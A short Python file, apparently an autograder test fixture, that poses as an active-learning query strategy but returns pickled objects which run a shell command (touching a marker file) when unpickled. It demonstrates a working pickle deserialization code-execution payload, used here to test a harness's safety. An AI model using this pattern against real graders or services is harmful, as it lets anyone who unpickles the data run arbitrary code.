"""Returns objects that run a command where they are unpickled."""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/unpickled",)


def attack(probabilities):
    return [pickle.dumps(Command()).decode("latin-1"), pickle.dumps(Command()), Command()]


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
